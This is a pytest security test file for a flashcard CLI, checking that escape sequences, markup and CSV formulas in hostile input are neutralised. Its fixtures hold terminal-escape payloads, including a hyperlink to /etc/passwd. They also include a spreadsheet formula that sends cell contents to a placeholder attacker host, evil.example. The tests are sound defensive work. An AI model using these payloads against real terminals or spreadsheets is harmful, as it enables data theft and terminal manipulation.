"""Hostile text from a trainer's deck, a shared quiz, markets.yaml, a user name or the database: no
escape sequence or C1 control reaches the terminal, no markup is interpreted, and no CSV cell runs as a
spreadsheet formula."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import sqlite3
import sys

import pexpect
import pytest

from tests.conftest import run_cli, write

# Double-quoted YAML escapes: \e is ESC, \a BEL, \x9b the C1 control sequence introducer.
CLEAR = r"\e[2J"
TITLE = r"\e]0;pwned\a"
LINK = r"\e]8;;file:///etc/passwd\e\\click\e]8;;\e\\"
C1 = r"\x9b31m"
HOSTILE = CLEAR + TITLE + LINK + C1
MARKUP = "[bold red]x[/] [link=file:///etc/passwd]y[/link]"

MARKETS = f"""\
markets:
  - code: zz
    name: "Zed {HOSTILE} {MARKUP}"
    languages: [de]
"""

DECK = f"""\
deck: zz-etiquette
title: "Etiquette {HOSTILE}"
market: zz
topic: etiquette
cards:
  - id: zz-eti-one
    statement: "Greet first {HOSTILE}"
    true: yes
    explain: "Because {HOSTILE}"
  - id: zz-eti-two
    q: "Which greeting? {HOSTILE}"
    a: "Guten Tag {HOSTILE}"
    choices: ["Guten Tag {HOSTILE}", "Hallo {C1}", "=HYPERLINK(\\"http://x.example/\\")"]
    explain: "-1+1 {HOSTILE}"
    tags: ["@SUM(1)", "+cmd"]
"""

QUIZ = f"""\
quiz: zz-quiz
title: "Zed quiz {HOSTILE}"
description: "Shared quiz {HOSTILE}"
markets: [zz]
topics: [etiquette]
questions: 2
pass: 50
"""

USER = "\x1b[2J\x1b]0;pwned\x07\u009b31m" + MARKUP

ESC_OR_C1 = re.compile(rb"\x1b|\xc2[\x80-\x9f]|\x07")


@pytest.fixture
def hostile(tmp_path, monkeypatch):
    monkeypatch.setenv("CSDRILL_BUILTIN", "0")
    folder = tmp_path / "decks"
    write(folder, "markets.yaml", MARKETS)
    write(folder, "deck.yaml", DECK)
    write(folder, "quiz.yaml", QUIZ)
    monkeypatch.setenv("CSDRILL_DECKS", str(folder))
    return folder


def run_bytes(*args, input: bytes = b"", env: dict | None = None):
    import subprocess

    return subprocess.run([sys.executable, "-m", "csdrill", *args], input=input, capture_output=True,
                          env=dict(os.environ, **(env or {})), timeout=60)


def assert_no_terminal_controls(result) -> None:
    for name, data in (("stdout", result.stdout), ("stderr", result.stderr)):
        found = ESC_OR_C1.search(data)
        assert found is None, f"{name} carries {found.group()!r}: {data[max(0, found.start() - 40):found.end() + 40]!r}"
    assert b"internal error" not in result.stderr


def test_the_hostile_world_loads_cleanly(hostile):
    assert run_cli("lint", str(hostile)).returncode == 0


@pytest.mark.parametrize("args", [
    ("show", "zz-eti-one"), ("show", "zz-eti-two"), ("show", "zz-eti-two", "--json"),
    ("markets",), ("markets", "--json"), ("decks",), ("decks", "--json"), ("export", "csv", "-o", "-"),
])
def test_content_views_carry_no_escape_or_c1_byte(hostile, args):
    result = run_bytes(*args)
    assert result.returncode == 0, result.stderr
    assert_no_terminal_controls(result)


def test_show_makes_the_controls_visible_instead_of_dropping_them(hostile):
    out = run_bytes("show", "zz-eti-one", env={"COLUMNS": "300"}).stdout.decode()
    assert "Greet first \\x1b[2J\\x1b]0;pwned\\x07\\x1b]8;;file:///etc/passwd" in out
    assert "\\x9b31m" in out


def test_quiz_line_mode_carries_no_escape_or_c1_byte(hostile):
    result = run_bytes("quiz", "--market", "zz", "--mode", "choice", input=b"1\n1\n")
    assert result.returncode == 0, result.stderr
    assert b"Greet first" in result.stdout
    assert_no_terminal_controls(result)


def test_exam_line_mode_of_a_shared_quiz_carries_no_escape_or_c1_byte(hostile):
    result = run_bytes("exam", "zz-quiz", input=b"1\n1\n")
    assert result.returncode in (0, 1), result.stderr
    assert_no_terminal_controls(result)


def test_lint_quotes_and_file_names_carry_no_escape_or_c1_byte(hostile):
    write(hostile, "bad\x1b[2J.yaml", 'deck: zz-bad\ntitle: t\nmarket: zz\ntopic: "\\e[2Jnope\\x9b"\ncards: []\n')
    result = run_bytes("lint", str(hostile))
    assert result.returncode == 1
    assert_no_terminal_controls(result)
    assert b"bad\\x1b[2J.yaml" in result.stdout
    assert b"not '\\x1b[2Jnope\\x9b'" in result.stdout
    assert_no_terminal_controls(run_bytes("decks"))  # the same problems as an error of another command


def test_user_names_with_control_characters_are_refused(hostile):
    for env in ({}, {"CSDRILL_USER": USER}):
        args = ("quiz", "--market", "zz", "--mode", "choice") + (() if env else ("--user", USER))
        result = run_bytes(*args, input=b"1\n", env=env)
        assert result.returncode == 2
        assert_no_terminal_controls(result)
        assert b"has control characters; use letters, digits and punctuation" in result.stderr


def test_database_text_carries_no_escape_or_c1_byte(hostile, isolated_home):
    """Names and answers already in the database (another tool, an older csdrill) are shown harmlessly."""
    assert run_bytes("quiz", "--market", "zz", "--mode", "choice", input=b"1\n1\n").returncode == 0
    assert run_bytes("exam", "zz-quiz", input=b"1\n1\n").returncode in (0, 1)
    with sqlite3.connect(isolated_home / "progress.db") as con:
        con.execute("UPDATE reviews SET user = ?, answer = ?", (USER, USER))
        con.execute("UPDATE card_state SET user = ?", (USER,))
        for attempt, answers in con.execute("SELECT id, answers FROM exam_attempts").fetchall():
            hostile_answers = [{**answer, **{key: USER for key, value in answer.items() if isinstance(value, str)}}
                               for answer in json.loads(answers)]
            con.execute("UPDATE exam_attempts SET user = ?, answers = ? WHERE id = ?",
                        (USER, json.dumps(hostile_answers, ensure_ascii=False), attempt))
    for args in (("reviews",), ("reviews", "--json"), ("scores",), ("scores", "--json"), ("report",),
                 ("report", "--format", "json"), ("report", "--format", "csv")):
        result = run_bytes(*args)
        assert result.returncode in (0, 1), (args, result.stderr)
        assert_no_terminal_controls(result)
    assert USER.encode() not in run_bytes("reviews").stdout


def test_markup_in_market_names_and_user_names_is_shown_literally(hostile):
    markets = run_bytes("markets").stdout.decode()
    assert "[bold red]x[/]" in " ".join(markets.split())  # the table may wrap the name: compare words
    assert "[link=file:///etc/passwd]y[/link]" in "".join(markets.split())
    assert run_bytes("quiz", "--market", "zz", "--mode", "choice", "--user", MARKUP, input=b"1\n").returncode == 0
    reviews = run_bytes("reviews", env={"COLUMNS": "300"}).stdout.decode()
    assert "[link=file:///etc/passwd]y[/link]" in "".join(reviews.split())


def test_a_real_terminal_gets_colours_but_none_of_the_decks_sequences(hostile):
    env = {k: v for k, v in os.environ.items() if k != "NO_COLOR"}
    child = pexpect.spawn(sys.executable, ["-m", "csdrill", "show", "zz-eti-two"], env=dict(env, TERM="xterm-256color"),
                          dimensions=(40, 200), timeout=30)
    child.expect(pexpect.EOF)
    screen = child.before
    assert b"\x1b[" in screen  # Rich's own colours still reach the terminal
    for sequence in (b"\x1b[2J", b"\x1b]0;", b"\x1b]8;;file:///etc/passwd", b"\xc2\x9b", b"\x07"):
        assert sequence not in screen


def test_exported_csv_cells_never_start_a_formula_unless_raw_is_asked_for(hostile):
    rows = list(csv.DictReader(io.StringIO(run_bytes("export", "csv", "-o", "-").stdout.decode())))
    cells = [cell for row in rows for cell in row.values()]
    assert cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    two = next(row for row in rows if row["id"] == "zz-eti-two")
    assert two["explain"].startswith("'-1+1")
    assert two["tags"] == "'@SUM(1) | +cmd"
    assert "'=HYPERLINK" in two["choices"] or two["choices"].startswith("Guten")  # joined cells start with the first
    raw = list(csv.DictReader(io.StringIO(run_bytes("export", "csv", "-o", "-", "--raw").stdout.decode())))
    raw_two = next(row for row in raw if row["id"] == "zz-eti-two")
    assert raw_two["explain"].startswith("-1+1") and raw_two["tags"] == "@SUM(1) | +cmd"


def test_exported_csv_file_cells_are_safe_too(hostile, tmp_path):
    target = tmp_path / "cards.csv"
    assert run_bytes("export", "csv", "-o", str(target)).returncode == 0
    rows = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8-sig"))))
    assert not [c for row in rows for c in row.values() if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_report_csv_neutralises_a_formula_in_a_user_name(hostile):
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    assert run_bytes("exam", "zz-quiz", "--user", formula, input=b"1\n1\n").returncode in (0, 1)
    cells = run_bytes("report", "--format", "csv").stdout.decode()
    assert "'" + formula.replace('"', '""') in cells
    assert "\n" + formula not in cells and "," + formula not in cells
